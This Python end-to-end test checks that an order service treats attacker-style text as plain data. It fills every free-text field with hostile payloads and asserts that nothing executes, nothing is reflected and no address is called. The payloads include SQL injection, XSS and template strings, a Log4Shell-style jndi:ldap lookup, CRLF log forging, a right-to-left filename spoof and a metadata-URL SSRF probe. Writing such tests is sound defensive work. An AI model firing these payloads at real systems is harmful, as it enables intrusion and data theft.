"""Texts that would be commands elsewhere are only texts here, on the whole way of an order."""

from __future__ import annotations

import msgspec
from aiohttp import web
from msgspec.structs import replace

from tests.contract.partner_calls import stubbed
from tests.e2e.audit import ORDER_LENGTH
from tests.integration.whole import CHANNEL, Whole

HOSTILE = (
    "'; DROP TABLE orders; --",
    "$1) OR 1=1 --",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} ${jndi:ldap://192.0.2.1/a}",
    "\r\nlevel=info event=forged",
    "\u202egnp.exe",
)


async def test_commands_in_an_order_stay_text(whole: Whole) -> None:
    """SQL, mark-up, templates, addresses and line breaks in every free text: the order closes, each
    partner did its part once, answers are JSON that no browser takes for a page, and no one calls
    an address that a text names."""
    async with stubbed(web.json_response({})) as elsewhere:
        plain = whole.order()
        assert plain.ship_to is not None
        all_of_it = " ".join((f"{elsewhere.url}/latest/meta-data", *HOSTILE))
        order = replace(
            plain,
            lines=tuple(replace(line, title=all_of_it[:256]) for line in plain.lines),
            customer=replace(plain.customer, name=HOSTILE[0], reference=HOSTILE[1]),
            ship_to=replace(plain.ship_to, company=HOSTILE[0]),
            note=all_of_it,
            gift_message=all_of_it,
            attributes={text: text for text in (*HOSTILE, elsewhere.url)},
        )
        placed = await whole.place(order, X_Orderwright_Channel=CHANNEL)
        await whole.until(order.number, "closed")
        links = placed["links"]
        assert isinstance(links, dict)
        shown = await whole.api("GET", str(links["self"]))
        assert shown.headers["content-type"].startswith("application/json")
        hidden = await whole.api("GET", "/api/v1/orders/%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        assert (hidden.status, hidden.headers["content-type"]) == (404, "application/problem+json")
        for answer in (shown, hidden):
            assert answer.headers["x-content-type-options"] == "nosniff"
        kinds = [
            entry["kind"]
            for entry in await whole.world.ledger()
            if entry["reference"].startswith(str(placed["reference"])[:ORDER_LENGTH])
        ]
        assert kinds.count("erp_order") == kinds.count("warehouse_task") == 1, kinds
        found = await whole.api("GET", "/api/v1/orders?q=%27%3B+DROP+TABLE+orders%3B+--")
        assert found.status == 200
        timeline = await whole.api("GET", str(links["timeline"]))
        assert b"<script>" not in timeline.body
        listed = await whole.api("GET", f"/api/v1/orders?channel={CHANNEL}&q={order.number}")
        assert len(msgspec.json.decode(listed.body)["orders"]) == 1
        assert elsewhere.requests == [], "an address in a text was called"
